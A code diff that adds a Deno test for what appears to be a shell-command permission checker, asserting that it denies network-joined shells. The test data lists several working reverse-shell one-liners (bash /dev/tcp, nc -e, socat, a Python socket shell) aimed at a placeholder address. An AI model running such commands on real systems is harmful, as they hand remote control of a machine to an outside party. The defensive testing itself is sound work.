@@ -106,6 +106,22 @@ Deno.test("decide() refuses to run what was downloaded or decoded", () => {
   ], PLAIN_WORLD);
 });
 
+Deno.test("decide() refuses a shell that is joined to the network", () => {
+  assertDecisions("deny", [
+    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+    "sh 0</dev/tcp/192.0.2.1/4444",
+    "exec 3<>/dev/tcp/192.0.2.1/4444",
+    "nc -e /bin/sh 192.0.2.1 4444",
+    "nc 192.0.2.1 4444 -c bash",
+    "socat exec:bash tcp:192.0.2.1:4444",
+    "python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0); os.system(\"/bin/sh\")'",
+  ], PLAIN_WORLD);
+  assertNeverAllowed(
+    ["cat < /dev/tcp/192.0.2.1/80", "echo x > /dev/udp/192.0.2.1/53"],
+    PLAIN_WORLD,
+  );
+});
+
 Deno.test("decide() gives xargs and loops what the command before them prints", () => {
   assertDecisions("allow", [
     "git ls-files '*.ts' | xargs wc -l",
